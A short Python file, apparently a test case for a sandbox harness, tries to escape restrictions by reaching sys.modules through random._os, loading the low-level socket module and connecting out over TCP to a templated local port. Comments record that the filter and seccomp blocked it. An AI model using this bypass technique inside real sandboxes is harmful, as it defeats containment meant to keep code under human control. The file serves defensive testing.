# Tries: os.sys.modules (reached through random._os) holds every module the harness
#   imported; take posix and socket from there and phone home over TCP.
# Check layer: rejected ("_os").
# Sandbox layer: socket() refused by seccomp, no network -> failed.
import random
modules = random._os.sys.modules
print(sorted(modules)[:50])
_socket = modules.get("_socket") or random._os.sys.modules["time"].__loader__.load_module("_socket")
s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
s.connect(("127.0.0.1", int("@@TCP_PORT@@")))
print("ESCAPED" + ":", "connected")
